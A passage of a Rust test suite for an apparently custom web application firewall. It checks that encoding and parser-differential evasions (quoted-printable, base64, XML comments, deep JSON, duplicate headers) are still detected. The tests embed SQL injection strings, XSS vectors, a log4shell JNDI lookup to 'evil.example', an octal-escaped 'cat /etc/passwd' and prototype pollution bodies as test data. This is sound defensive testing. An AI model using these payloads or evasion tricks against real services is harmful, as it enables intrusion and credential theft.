            .map(|h| format!("{}@{}", h.rule_id, h.location))
            .collect()
    }

    /// Go's mime/multipart `Reader.NextPart` (used by `ReadForm`, so by
    /// `Request.ParseMultipartForm` / `FormValue`) wraps a part sent with
    /// `Content-Transfer-Encoding: quoted-printable` in
    /// `quotedprintable.NewReader` and hands the decoded text to the
    /// application; Werkzeug before 2.0 (`_supported_multipart_encodings =
    /// {"base64", "quoted-printable"}`) did the same for Flask. Specula
    /// decodes a base64 part (round 13) but reads a quoted-printable one
    /// as sent: `=27` and a soft line break (`=\r\n`) hide the SQLi.
    #[test]
    fn review15_multipart_quoted_printable_part_is_decoded() {
        let mp = |cte: &str, value: &str| {
            req(
                "POST",
                "/upload",
                &[("Content-Type", "multipart/form-data; boundary=b")],
                format!(
                    "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n{cte}\r\n{value}\r\n--b--\r\n"
                )
                .as_bytes(),
            )
        };
        let plain = mp("", "1' UNION SELECT username, password FROM users--");
        assert!(has_class(&plain, AttackClass::Sqli), "{:?}", show(&plain));
        // What Go's quotedprintable reader turns into the line above.
        let qp = mp(
            "Content-Transfer-Encoding: quoted-printable\r\n",
            "1=27 UNION SEL=\r\nECT username, password FROM users--",
        );
        assert!(
            has_class(&qp, AttackClass::Sqli),
            "quoted-printable part not decoded: {:?}",
            show(&qp)
        );
    }

    /// Go's net/http parses the request-target with `url.ParseRequestURI`,
    /// which (unlike `url.Parse`) does not cut a `#fragment`: in
    /// `/search?q=x#%27%20UNION...` the `#` and all after it stay in
    /// `RawQuery`, and `r.URL.Query().Get("q")` / `r.FormValue("q")` is
    /// `x#' UNION SELECT password FROM users--`. Specula drops everything
    /// after `#` from the query and path points (only the raw `uri` point
    /// keeps it, which no SQLi rule targets) and records nothing, not even
    /// a protocol hit: browsers never send a `#`.
    #[test]
    fn review15_query_after_hash_is_inspected() {
        let plain = req(
            "GET",
            "/search?q=x%27%20UNION%20SELECT%20password%20FROM%20users--",
            &[],
            b"",
        );
        assert!(has_class(&plain, AttackClass::Sqli), "{:?}", show(&plain));
        let hashed = req(
            "GET",
            "/search?q=x#%27%20UNION%20SELECT%20password%20FROM%20users--",
            &[],
            b"",
        );
        let hits = hits_of(&hashed);
        assert!(
            !hits.is_empty(),
            "a query Go reads past `#` left no record at all"
        );
        assert!(
            has_class(&hashed, AttackClass::Sqli),
            "query after `#` not inspected: {:?}",
            show(&hashed)
        );
    }

    /// The HTML tokenizer (WHATWG "decimal character reference state":
    /// multiply by 10 and add, for every ASCII digit; only a value past
    /// U+10FFFF becomes U+FFFD) reads any number of leading zeros, so
    /// `<a href="javascript&#00000000000058;location=name">` runs script.
    /// `decode_entity` gives up past 10 digits: with 10 the `javascript:`
    /// URI is an XSS hit, with 13 nothing is.
    #[test]
    fn review15_numeric_entity_many_leading_zeros() {
        let q = |p: &str| req("GET", &format!("/r?u={}", pct(p)), &[], b"");
        let ten = q("javascript&#0000000058;location=name");
        assert!(has_class(&ten, AttackClass::Xss), "{:?}", show(&ten));
        let hex = q("javascript&#x00000000003a;location=name");
        let dec = q("javascript&#0000000000058;location=name");
        for (what, r) in [("hex, 12 digits", &hex), ("decimal, 13 digits", &dec)] {
            assert!(
                has_class(r, AttackClass::Xss),
                "{what}: entity with leading zeros not decoded: {:?}",
                show(r)
            );
        }
    }

    /// A value longer than `max_point_bytes` (16 KiB) is cut and only its
    /// head inspected (counted in `point_bytes_truncated`, no hit). Every
    /// framework hands the whole value on (PHP `$_POST`, Express, Django's
    /// 2.5 MB `DATA_UPLOAD_MAX_MEMORY_SIZE`), and SQL and HTML ignore the
    /// leading whitespace: 17 KB of spaces before a SQLi in one form field
    /// hide it, with the body (17 KB) far under the 64 KiB kept.
    #[test]
    fn review15_long_value_tail_is_inspected() {
        let form = |pad: usize| {
            req(
                "POST",
                "/search",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                format!(
                    "q={}1%27+UNION+SELECT+username%2C+password+FROM+users--",
                    "+".repeat(pad)
                )
                .as_bytes(),
            )
        };
        let short = form(100);
        assert!(has_class(&short, AttackClass::Sqli), "{:?}", show(&short));
        let long = form(17_000);
        let mut stats = DetectStats::default();
        let mut hits = Vec::new();
        detector().inspect(&long, &mut stats, &mut hits);
        assert_eq!(stats.point_bytes_truncated, 1);
        assert!(
            hits.iter().any(|h| h.class == AttackClass::Sqli),
            "SQLi after 17 KB of padding in one value not seen: {hits:?}"
        );
    }

    /// JSON is split into values only under a JSON media type and when
    /// serde_json accepts it; otherwise the body is one raw point cut at 16
    /// KiB. Back ends read such bodies as JSON anyway: Go handlers call
    /// `json.NewDecoder(r.Body).Decode` and PHP ones
    /// `json_decode(file_get_contents('php://input'))` whatever the
    /// Content-Type; body-parser (iconv-lite strips the BOM), Jackson
    /// (`ByteSourceJsonBootstrapper`), System.Text.Json and Django/Flask
    /// (`json.loads` of bytes detects `utf-8-sig`) take a UTF-8 BOM; Node,
    /// Python, Go and Jackson take a lone surrogate escape. With a 17 KB
    /// member first, the SQLi member after it is never inspected.
    #[test]
    fn review15_json_body_outside_json_media_type_is_split() {
        let doc = serde_json::json!({
            "comment": "the quick brown fox. ".repeat(850),
            "id": "1' UNION SELECT username, password FROM users--"
        })
        .to_string();
        let json = ("Content-Type", "application/json");
        let plain = req("POST", "/api", &[json], doc.as_bytes());
        assert!(has_class(&plain, AttackClass::Sqli), "{:?}", show(&plain));
        let mut bom = b"\xef\xbb\xbf".to_vec();
        bom.extend_from_slice(doc.as_bytes());
        let surrogate = doc.replacen("\"id\"", "\"x\":\"\\ud800\",\"id\"", 1);
        let cases = [
            (
                "text/plain",
                req(
                    "POST",
                    "/api",
                    &[("Content-Type", "text/plain")],
                    doc.as_bytes(),
                ),
            ),
            ("no Content-Type", req("POST", "/api", &[], doc.as_bytes())),
            (
                "application/json with a BOM",
                req("POST", "/api", &[json], &bom),
            ),
            (
                "application/json, lone surrogate",
                req("POST", "/api", &[json], surrogate.as_bytes()),
            ),
        ];
        let missed: Vec<&str> = cases
            .iter()
            .filter(|(_, r)| !has_class(r, AttackClass::Sqli))
            .map(|(what, _)| *what)
            .collect();
        assert!(
            missed.is_empty(),
            "JSON SQLi after a 17 KB member not seen: {missed:?}"
        );
    }
}

/// Round 16 leads, checked with a test each: a query piece after `;`
/// (Rack 2, CGI.pm and Python before 3.9.2 split there) is inspected inside
/// the value before it, so a MongoDB operator in its name is still found;
/// octal escapes (bash `$'…'`, JavaScript, PHP) are decoded, so a command
/// spelt only in them is found.
#[test]
fn semicolon_pieces_and_octal_escapes_are_inspected() {
    let classes =
        |r: &Request| -> Vec<AttackClass> { hits_of(r).iter().map(|h| h.class).collect() };
    let nosql = req("GET", "/login?a=1;user[$ne]=x", &[], b"");
    assert!(
        classes(&nosql).contains(&AttackClass::Nosqli),
        "{:?}",
        hits_of(&nosql)
    );
    let octal = req(
        "GET",
        r"/ping?host=127.0.0.1;$'\143\141\164'%20$'\57\145\164\143\57\160\141\163\163\167\144'",
        &[],
        b"",
    );
    let plain = req("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", &[], b"");
    assert!(!classes(&plain).is_empty());
    assert!(
        !classes(&octal).is_empty(),
        "octal-escaped command not seen"
    );
}

/// Review round 16. Defect: the XML walker hands on each text and CDATA
/// segment of an element separately, so an SQL (or any) keyword split by an
/// XML comment or a CDATA section (`un<!-- x -->ion sel<![CDATA[ect]]>`)
/// reaches no rule, neither on `body:xml:/…` nor on the raw body. The back
/// end reads the element's text whole: Java DOM `Node.getTextContent()`,
/// JAXB and Jackson's `XmlMapper`, .NET `XmlNode.InnerText` /
/// `XmlReader.ReadElementContentAsString()`, libxml2's `xmlNodeGetContent`
/// (PHP `DOMNode::textContent`) and browsers' `textContent` all skip
/// comments and join text with CDATA, so a SOAP service builds the query
/// from `1' union select password from users--`. A known WAF bypass for
/// SOAP/XML APIs. Severity: High (SQL injection into XML APIs unseen).
#[test]
fn review16_xml_comment_or_cdata_inside_keyword_is_joined() {
    let bodies: [&[u8]; 3] = [
        b"<q>1' un<!-- c -->ion sel<!-- c -->ect password from users--</q>",
        b"<q>1' un<![CDATA[ion sel]]>ect password from users--</q>",
        b"<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><getUser><id>1' un<?x?>ion select password from users--</id></getUser></s:Body></s:Envelope>",
    ];
    let mut missed = Vec::new();
    for body in bodies {
        let r = req("POST", "/ws", &[("Content-Type", "text/xml")], body);
        let hits = hits_of(&r);
        if !hits.iter().any(|h| h.class == AttackClass::Sqli) {
            missed.push(String::from_utf8_lossy(body).into_owned());
        }
    }
    assert!(missed.is_empty(), "no sqli hit for {missed:#?}");
}

/// Review round 16. Defect: `{"constructor": {"prototype": {...}}}` in a
/// JSON body is not reported. `rce-js-prototype-pollution` looks for
/// `constructor.prototype` / `constructor[prototype]` in one value, but the
/// JSON walker hands each member name on alone (`constructor`, then
/// `prototype`) and the raw body reads `"constructor":{"prototype"`, so
/// neither matches; only `__proto__` is caught. `JSON.parse` in Node keeps
/// both keys, and a deep merge (lodash `_.merge`/`_.defaultsDeep`
/// CVE-2019-10744/CVE-2018-16487, `merge-deep`, `deep-extend`, jQuery
/// `$.extend(true, …)`) then writes `Object.prototype.isAdmin`: the
/// published exploit of CVE-2019-10744 is exactly this body. The same keys
/// as a query (`?constructor[prototype][isAdmin]=1`) are reported, so only
/// the JSON form evades. Severity: Medium.
#[test]
fn review16_json_constructor_prototype_pollution_is_reported() {
    let bodies: [&[u8]; 2] = [
        br#"{"constructor": {"prototype": {"isAdmin": true}}}"#,
        br#"{"type":"test","content":{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}}"#,
    ];
    let mut missed = Vec::new();
    for body in bodies {
        let r = req(
            "POST",
            "/api/merge",
            &[("Content-Type", "application/json")],
            body,
        );
        let hits = hits_of(&r);
        if !hits
            .iter()
            .any(|h| &*h.rule_id == "rce-js-prototype-pollution")
        {
            missed.push((String::from_utf8_lossy(body).into_owned(), hits));
        }
    }
    // The query form is reported (control).
    let q = req("GET", "/?constructor[prototype][isAdmin]=1", &[], b"");
    assert!(hits_of(&q)
        .iter()
        .any(|h| &*h.rule_id == "rce-js-prototype-pollution"));
    assert!(missed.is_empty(), "not reported: {missed:#?}");
}

/// Review round 16. Defect: a JSON body nested deeper than
/// `MAX_JSON_DEPTH` (32) but within serde_json's recursion limit (128)
/// parses, so it is not inspected raw, and the walk stops at depth 32 and
/// only counts `decode_depth_hits`: every string below is inspected
/// nowhere. XML hands its raw body on before walking; JSON does not. Real
/// back ends read far deeper: Node's `JSON.parse` (Express `body-parser`)
/// has no depth limit, PHP `json_decode` allows 512, Jackson 1000, Go's
/// `encoding/json` 10000, Python's `json` about 1000. An attacker wraps a
/// log4shell string (logged by an app that logs its input), a stored XSS or
/// a NoSQL/SQL injection in 40 levels of `{"a":…}` and no rule sees it.
/// Severity: High (a generic, trivial blind spot for every rule class).
#[test]
fn review16_json_deeper_than_walk_limit_is_inspected() {
    let mut missed = Vec::new();
    for payload in [
        "${jndi:ldap://evil.example/a}",
        "1' union select password from users--",
        "<script>alert(document.cookie)</script>",
    ] {
        let body = format!(
            "{}{{\"q\":\"{payload}\"}}{}",
            "{\"a\":".repeat(40),
            "}".repeat(40)
        );
        let r = req(
            "POST",
            "/api/items",
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        );
        if hits_of(&r).is_empty() {
            missed.push(payload);
        }
    }
    assert!(
        missed.is_empty(),
        "not inspected below depth 32: {missed:?}"
    );
}

/// Review round 16. Defect: a multipart body is split into at most
/// `MAX_MULTIPART_PARTS` (64) parts; with more, everything from the 65th
/// delimiter on is inspected nowhere (the parts are not split, the raw body
/// is not handed on, and no counter or finding says so), while the points
/// budget (512) is far from spent. Back ends read far more parts: PHP up
/// to `max_input_vars` (1000), Go's `ParseMultipartForm` 1000 (Go 1.20.2+,
/// unlimited before), Node's busboy/multer no limit, Tomcat/Spring
/// `maxPartCount` 1000 (10.1.5+, unlimited before). An attacker sends 64
/// harmless fields and the injection in the 65th. Severity: High (a whole
/// body unseen past a small, fixed count).
#[test]
fn review16_multipart_parts_past_the_cap_are_inspected() {
    let mut body = String::new();
    for k in 0..point::MAX_MULTIPART_PARTS {
        body.push_str(&format!(
            "--zz\r\nContent-Disposition: form-data; name=\"f{k}\"\r\n\r\nx\r\n"
        ));
    }
    body.push_str(
        "--zz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' union select password from users--\r\n--zz--\r\n",
    );
    let r = req(
        "POST",
        "/form",
        &[("Content-Type", "multipart/form-data; boundary=zz")],
        body.as_bytes(),
    );
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    detector().inspect(&r, &mut stats, &mut hits);
    assert_eq!(
        stats.point_limit_hits, 0,
        "the points budget is not the cause"
    );
    assert!(
        hits.iter().any(|h| h.class == AttackClass::Sqli),
        "65th part not inspected: {hits:?}"
    );
}

mod review17 {
    //! Review round 17: detection gaps found by the security review.
    use super::*;

    pub(super) fn ids(r: &Request) -> Vec<String> {
        hits_of(r)
            .iter()
            .map(|h| format!("{}@{}", h.rule_id, h.location))
            .collect()
    }

    pub(super) fn has(r: &Request, rule: &str) -> bool {
        hits_of(r).iter().any(|h| &*h.rule_id == rule)
    }

    /// `1e400` is Infinity to Node's `JSON.parse`, PHP and Python, and a
    /// skipped member to Go; serde_json refuses it, so one such number sent
    /// the whole document to raw inspection, where member-level rules
    /// (anchored values, `constructor.prototype`) never match. Python also
    /// reads `NaN` / `Infinity`.
    #[test]
    fn review17_json_number_out_of_range_keeps_the_split() {
        let json = &[("Content-Type", "application/json")][..];
        for body in [
            &br#"{"n":1e400,"constructor":{"prototype":{"isAdmin":true}}}"#[..],
            br#"{"n":-1E+999,"constructor":{"prototype":{"isAdmin":true}}}"#,
        ] {
            let r = req("POST", "/api", json, body);
            assert!(has(&r, "rce-js-prototype-pollution"), "{:?}", ids(&r));
        }
        for body in [
            &br#"{"n":1e400,"cmd":"whoami"}"#[..],
            br#"{"n":NaN,"cmd":"whoami"}"#,
            br#"[Infinity,{"cmd":"whoami"}]"#,
        ] {
            let r = req("POST", "/api", json, body);
            assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
        }
    }

    /// Jackson (Spring's `FAIL_ON_TRAILING_TOKENS` is off) and Go's
    /// `json.NewDecoder(r.Body).Decode` read the first JSON value and ignore
    /// what follows: the members are still split, and the whole body is
    /// inspected raw too.
    #[test]
    fn review17_json_trailing_data_keeps_the_split() {
        let json = &[("Content-Type", "application/json")][..];
        let r = req("POST", "/api", json, br#"{"cmd":"whoami"} {}"#);
        assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
        let r = req(
            "POST",
            "/api",
            json,
            br#"{"a":"b"}<script>alert(1)</script>"#,
        );
        assert!(has(&r, "xss-script-tag"), "{:?}", ids(&r));
    }

    /// Two Content-Type headers: nginx (`$content_type`, so PHP-FPM), Go,
    /// Node, Tomcat and PHP under Apache (which merges them, then cuts at
    /// `,`) all take the first. The body is read as that type, and the
    /// repeat is a protocol hit.
    #[test]
    fn review17_duplicate_content_type_first_wins() {
        let r = req(
            "POST",
            "/x",
            &[
                ("Content-Type", "application/x-www-form-urlencoded"),
                ("Content-Type", "application/octet-stream"),
            ],
            b"a=1&cmd=whoami",
        );
        assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
        assert!(has(&r, "protocol-content-type-duplicate"), "{:?}", ids(&r));
        // Go's multipart reader decodes a quoted-printable part.
        let body = b"--b\r\nContent-Disposition: form-data; name=\"c\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3Ealert(1)=3C/script=3E\r\n--b--\r\n";
        let r = req(
            "POST",
            "/x",
            &[
                ("Content-Type", "multipart/form-data; boundary=b"),
                ("Content-Type", "text/plain"),
            ],
            body,
        );
        assert!(has(&r, "xss-script-tag"), "{:?}", ids(&r));
    }

    /// PHP decodes `$_COOKIE` values with `urldecode`: `+` is a space, as
    /// in a query string.
    #[test]
    fn review17_cookie_plus_is_a_space_to_php() {
        let r = req(
            "GET",
            "/",
            &[("Cookie", "id=1'+union+all+select+password+from+users--")],
            b"",
        );
        assert!(
            hits_of(&r).iter().any(|h| h.class == AttackClass::Sqli),
            "{:?}",
            ids(&r)
        );
    }

    /// `name="comment"; name="id"`: PHP, Django and busboy take the last
    /// `name`, Specula's location the first (an exclusion on the first
    /// field would drop hits in the second); Go refuses the part. A
    /// parser differential like the others: a `protocol-multipart-*` hit.
    #[test]
    fn review17_multipart_repeated_name_parameter_is_reported() {
        for cd in [
            "form-data; name=\"comment\"; name=\"id\"",
            "form-data; name=comment; filename=\"a.txt\"; NAME=id",
            "form-data; name=\"f\"; filename=\"a.txt\"; filename=\"a.php\"",
        ] {
            let body = format!("--b\r\nContent-Disposition: {cd}\r\n\r\nx\r\n--b--\r\n");
            let r = req(
                "POST",
                "/x",
                &[("Content-Type", "multipart/form-data; boundary=b")],
                body.as_bytes(),
            );
            assert!(
                has(&r, "protocol-multipart-malformed-disposition"),
                "{cd}: {:?}",
                ids(&r)
            );
        }
    }
}

mod review18 {
    //! Review round 18: detection gaps found by the security review.
    use super::review17::{has, ids};
    use super::*;

    fn has_class(r: &Request, class: AttackClass) -> bool {
        hits_of(r).iter().any(|h| h.class == class)
    }

    /// Go's `encoding/json` and Node (body-parser decodes the body as
    /// UTF-8 first) read a string holding a byte that is not UTF-8 as
    /// U+FFFD; serde_json refuses the document, so one such byte sent the
    /// whole body to raw inspection, where member-level rules never match.
    #[test]
    fn review18_json_invalid_utf8_keeps_the_split() {
        let json = &[("Content-Type", "application/json")][..];
        for body in [
            &b"{\"n\":\"\xff\",\"constructor\":{\"prototype\":{\"isAdmin\":true}}}"[..],
            b"{\"n\":\"a\xc3(\",\"__proto__\":{\"isAdmin\":true}}",
        ] {
            let r = req("POST", "/api", json, body);
            assert!(has(&r, "rce-js-prototype-pollution"), "{:?}", ids(&r));
        }
        let r = req(
            "POST",
            "/api",
            json,
            b"{\"n\":\"\xed\xa0\x80\",\"cmd\":\"whoami\"}",
        );
        assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
    }

    /// Jackson (Spring's `MappingJackson2HttpMessageConverter` without a
    /// charset) detects UTF-16 and UTF-32 JSON from its first bytes (RFC
    /// 4627 §3), with or without a byte order mark.
    #[test]
    fn review18_json_utf16_is_split_as_jackson_reads_it() {
        let doc = r#"{"q":"1' union all select password from users--","cmd":"whoami"}"#;
        let le: Vec<u8> = doc.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let be: Vec<u8> = doc.encode_utf16().flat_map(u16::to_be_bytes).collect();
        for body in [le, be] {
            let r = req(
                "POST",
                "/api",
                &[("Content-Type", "application/json")],
                &body,
            );
            assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
            assert!(has_class(&r, AttackClass::Sqli), "{:?}", ids(&r));
        }
    }

    /// Rack 2 (Rails) and Python before 3.9.2 split a query at `;` as at
    /// `&` (Rack's form bodies only at `&`): `a=1;cmd=whoami` is a
    /// parameter `cmd` to them.
    #[test]
    fn review18_semicolon_separated_query_parameters() {
        let r = req("GET", "/x?a=1;cmd=whoami", &[], b"");
        assert!(has(&r, "rce-command-value"), "{:?}", ids(&r));
    }
}

mod review20c {
    //! Review round 20 (c): detection gaps found by the security review.
    use super::*;

    /// Review round 20 (c). Defect: the body is split by the media type
    /// cut at `;` only, but PHP ends it at the first `;`, `,` or space
    /// (`sapi_read_post_data` in main/SAPI.c, then a lookup of the
    /// lowercased rest among its post handlers), so `Content-Type:
    /// application/x-www-form-urlencoded, text/plain` (or `… x`) fills
    /// `$_POST` as a form. Specula took it for an unknown type and read the
    /// body raw, where `+` stays `+`: `q=1+union+select+password+from+users--`
    /// gave no SQL injection hit at all, only the malformed-type finding.
    /// (Go, Node's type-is, Tomcat and Python refuse the type and parse
    /// nothing; their applications read the body raw, still inspected.)
    /// Severity: High (an attack PHP receives is missed).
    #[test]
    fn review20c_php_reads_a_form_whose_type_runs_on_after_a_comma_or_space() {
        for ct in [
            "application/x-www-form-urlencoded, text/plain",
            "application/x-www-form-urlencoded x",
            "Application/X-WWW-Form-Urlencoded,",
        ] {
            let r = req(
                "POST",
                "/search.php",
                &[("Content-Type", ct)],
                b"q=1+union+select+password+from+users--",
            );
            let hits = hits_of(&r);
            assert!(
                hits.iter()
                    .any(|h| h.class == AttackClass::Sqli && h.location == "body:q"),
                "{ct}: {:?}",
                hits.iter()
                    .map(|h| (&*h.rule_id, &h.location))
                    .collect::<Vec<_>>()
            );
        }
    }

    /// Review round 20 (c). Defect: of two Content-Type fields only the
    /// first splits the body (nginx's `$content_type`, Go, Node, Tomcat
    /// and PHP read it), but gunicorn, the usual server of Django and
    /// Flask behind nginx (which passes both on), keeps the last:
    /// `create()` in gunicorn/http/wsgi.py sets `environ['CONTENT_TYPE']`
    /// anew for each field. With `Content-Type: application/json` then
    /// `Content-Type: application/x-www-form-urlencoded`, Flask's
    /// `request.form` reads `q=1 union select …` while Specula read the
    /// body as broken JSON, raw, where `+` is no space: no SQL injection
    /// hit, only the duplicate finding. Severity: High (an attack the
    /// application receives is missed; the finding alone says nothing of it).
    #[test]
    fn review20c_gunicorn_reads_the_last_content_type() {
        let r = req(
            "POST",
            "/search",
            &[
                ("Content-Type", "application/json"),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            b"q=1+union+select+password+from+users--",
        );
        let hits = hits_of(&r);
        assert!(
            hits.iter()
                .any(|h| h.class == AttackClass::Sqli && h.location == "body:q"),
            "{:?}",
            hits.iter()
                .map(|h| (&*h.rule_id, &h.location))
                .collect::<Vec<_>>()
        );
    }
}

mod review21b {
    //! Review round 21 (b): detection gaps found by the security review.
    use super::*;

    fn mp(content_types: &[&str], body: &str) -> Request {
        let headers: Vec<(&str, &str)> = content_types
            .iter()
            .map(|ct| ("Content-Type", *ct))
            .collect();
        req("POST", "/upload", &headers, body.as_bytes())
    }

    fn sqli_at(r: &Request) -> Vec<String> {
        hits_of(r)
            .into_iter()
            .filter(|h| h.class == AttackClass::Sqli)
            .map(|h| h.location)
            .collect()
    }

    fn all(r: &Request) -> Vec<String> {
        hits_of(r)
            .into_iter()
            .map(|h| format!("{}@{}", h.rule_id, h.location))
            .collect()
    }

    /// Review round 21 (b). Defect: a part is base64-decoded only when its
    /// `Content-Transfer-Encoding` value is exactly `base64`, but Django's
    /// `parse_boundary_stream` reads each part header with
    /// `parse_header_parameters` (django/http/multipartparser.py,
    /// django/utils/http.py), whose main value ends at the first `;`, is
    /// lowercased and stripped: `base64; x=1` (or `BASE64 ;`) is `base64`
    /// to `MultiPartParser.parse` (`base64.b64decode(raw_data)`, then
    /// `request.POST`). Specula read the part as sent: no SQL injection
    /// hit, and no finding. Severity: High (an attack Django receives is
    /// missed).
    #[test]
    fn review21b_base64_part_with_parameters_is_decoded() {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD
            .encode("' UNION SELECT password FROM users--");
        for cte in ["base64; x=1", "BASE64 ;", "base64;"] {
            let r = mp(
                &["multipart/form-data; boundary=b"],
                &format!(
                    "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\
                     Content-Transfer-Encoding: {cte}\r\n\r\n{b64}\r\n--b--\r\n"
                ),
            );
            assert!(!sqli_at(&r).is_empty(), "{cte}: {:?}", all(&r));
        }
    }

    /// Review round 21 (b). Defect: a part sent with
    /// `Content-Transfer-Encoding: base64` was decoded only when its text
    /// passed the sniffing heuristics meant for values that merely look
    /// like base64 (at least 16 symbols, one alphabet only, no other
    /// byte). Django decodes such a field whatever it holds:
    /// `base64.b64decode(raw_data)` in `MultiPartParser.parse` runs with
    /// `validate=False`, which discards every byte outside the alphabet
    /// (CPython `binascii.a2b_base64`, non-strict). So `JyBvciAxPTEtLQ==`
    /// (`' or 1=1--`, 14 symbols) and the same with `*` sprinkled in are
    /// `' or 1=1--` in `request.POST['q']`; Specula inspected only the
    /// base64 text: no SQL injection hit. Severity: High (an attack Django
    /// receives is missed).
    #[test]
    fn review21b_base64_part_is_decoded_as_django_decodes_it() {
        // The plain text is caught.
        let plain = mp(
            &["multipart/form-data; boundary=b"],
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' or 1=1--\r\n--b--\r\n",
        );
        assert!(!sqli_at(&plain).is_empty(), "{:?}", all(&plain));
        for b64 in ["JyBvciAxPTEtLQ==", "J*yBv*ciAx*PTEt*LQ=="] {
            let r = mp(
                &["multipart/form-data; boundary=b"],
                &format!(
                    "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\
                     Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
                ),
            );
            assert!(!sqli_at(&r).is_empty(), "{b64}: {:?}", all(&r));
        }
    }

    /// Review round 21 (b). Defect: a later Content-Type splits the body
    /// again only when its media type differs from the first's, but
    /// gunicorn keeps the whole last value (`environ['CONTENT_TYPE']`),
    /// boundary included: with `multipart/form-data; boundary=a` then
    /// `multipart/form-data; boundary=b` Django splits the body at `--b`.
    /// Specula looked for `--a` only, found no part and read the body raw,
    /// where a `Content-Transfer-Encoding: base64` part stays base64: no
    /// SQL injection hit, only the duplicate Content-Type finding.
    /// Severity: High (an attack the application receives is missed; the
    /// finding alone says nothing of it).
    #[test]
    fn review21b_gunicorn_splits_at_the_last_boundary() {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD
            .encode("' UNION SELECT password FROM users--");
        let r = mp(
            &[
                "multipart/form-data; boundary=a",
                "multipart/form-data; boundary=b",
            ],
            &format!(
                "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\
                 Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
            ),
        );
        assert!(!sqli_at(&r).is_empty(), "{:?}", all(&r));
    }

    /// Review round 21 (b). Defect: a part's field name is taken from the
    /// first `name=` parameter only, but Django and Go read an RFC 2231
    /// `name*` too, and it wins: Django's `parse_header_parameters` strips
    /// the `*`, percent-decodes `UTF-8''…` and overwrites `pdict["name"]`
    /// (last wins); Go's `mime.ParseMediaType` replaces `name` with the
    /// decoded `name*` (`decode2231Enc`), so `Part.FormName()` is it. So
    /// `form-data; name="comment"; name*=UTF-8''q` fills `POST['q']`, while
    /// Specula located the hit at `body:comment`: an exclusion of the noisy
    /// `body:comment` dropped an attack on `q`, with no finding (browsers
    /// never send `name*`, RFC 7578 §4.2). Go also joins RFC 2231
    /// continuations (`name*0=q`) into `name`. Severity: Medium (needs a
    /// location exclusion).
    #[test]
    fn review21b_rfc2231_name_star_names_the_field() {
        let r = mp(
            &["multipart/form-data; boundary=b"],
            "--b\r\nContent-Disposition: form-data; name=\"comment\"; name*=UTF-8''q\r\n\r\n\
             ' UNION SELECT password FROM users--\r\n--b--\r\n",
        );
        let at = sqli_at(&r);
        assert!(at.iter().any(|l| l == "body:q"), "{:?}", all(&r));
        // Go joins `name*0`, `name*1`… into the name too (q here).
        let continued = mp(
            &["multipart/form-data; boundary=b"],
            "--b\r\nContent-Disposition: form-data; name=\"comment\"; name*0=q\r\n\r\nx\r\n--b--\r\n",
        );
        for r in [&r, &continued] {
            let ids = all(r);
            assert!(
                ids.iter().any(|h| h.starts_with("protocol-multipart")),
                "no finding: {ids:?}"
            );
        }
    }

    /// PHP (`rfc1867.c`) takes the type up to `;`, `,` or a space and the
    /// boundary from the first `boundary` anywhere in the header, to `,`
    /// or `;`: `multipart/form-data, boundary=b` fills `$_POST`, and with
    /// `xboundary=a; boundary=b` PHP splits at `a`. Specula read the first
    /// raw (the middle of a long body is not inspected) and split the
    /// second at `b`: the fields PHP reads are now split out too, and the
    /// disagreement is a finding.
    #[test]
    fn php_finds_the_boundary_anywhere_in_the_type() {
        let pad = "x".repeat(40_000);
        for (ct, b) in [
            ("multipart/form-data, boundary=b", "b"),
            ("multipart/form-data boundary=b", "b"),
            ("multipart/form-data; xboundary=a; boundary=zz", "a"),
        ] {
            let body = format!(
                "--{b}\r\nContent-Disposition: form-data; name=\"p1\"\r\n\r\n{pad}\r\n\
                 --{b}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n\
                 1' union all select password from users--\r\n\
                 --{b}\r\nContent-Disposition: form-data; name=\"p2\"\r\n\r\n{pad}\r\n--{b}--\r\n"
            );
            let r = mp(&[ct], &body);
            assert!(
                sqli_at(&r).iter().any(|l| l == "body:q"),
                "{ct}: {:?}",
                all(&r)
            );
            assert!(
                all(&r)
                    .iter()
                    .any(|h| h.starts_with("protocol-multipart-bad-boundary")),
                "{ct}: {:?}",
                all(&r)
            );
        }
        // A well-formed type: no second reading, no finding.
        let r = mp(
            &["multipart/form-data; boundary=b; charset=utf-8"],
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--b--\r\n",
        );
        assert_eq!(all(&r), Vec::<String>::new());
    }
}

/// Attacks that only a rule with a written `prefilter` list would catch,
/// spelt as the rule's own pattern allows but without any of the listed
/// literals, so the engine never ran the rule: the userinfo before an IPv6
/// literal (WHATWG and Go's `net/url` both take `http://x@[fd00::1]/` as
/// host `fd00::1`), bash's `f ( ) { ... }` (a function definition whatever
/// the blanks between the parentheses), PHP's `$<tab>{$b}(1)` (the lexer
/// skips any whitespace between `$` and `{`), `javas<tab>cript:` (the
/// WHATWG URL parser strips tabs and newlines, so the browser runs it),
/// openSUSE's `ipv6-loopback` host name, an SQLite dot-command. Every
/// rule of the set stayed silent on all but the XSS vector. Severity: High.
#[test]
fn review23b_prefilter_hides_hits_of_written_literal_lists() {
    for (query, rule) in [
        ("url=http://x@[fd00::1]/admin", "ssrf-ipv6-literal-host"),
